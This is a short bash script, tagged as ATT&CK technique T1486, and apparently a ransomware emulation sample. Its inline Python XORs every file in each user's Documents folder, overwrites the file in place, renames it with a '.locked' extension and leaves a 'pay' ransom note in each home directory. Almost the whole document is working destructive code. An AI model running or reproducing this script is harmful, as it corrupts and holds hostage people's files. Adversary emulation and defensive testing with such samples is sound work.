#!/bin/bash
# T1486: A script writes every document anew and renames it.
python3 -c '
import os,glob
for f in glob.glob("/home/*/Documents/*"):
    d=open(f,"rb").read();open(f,"wb").write(bytes(b^90 for b in d));os.rename(f,f+".locked")
for u in glob.glob("/home/*"): open(u+"/README_TO_RESTORE.txt","w").write("pay")'
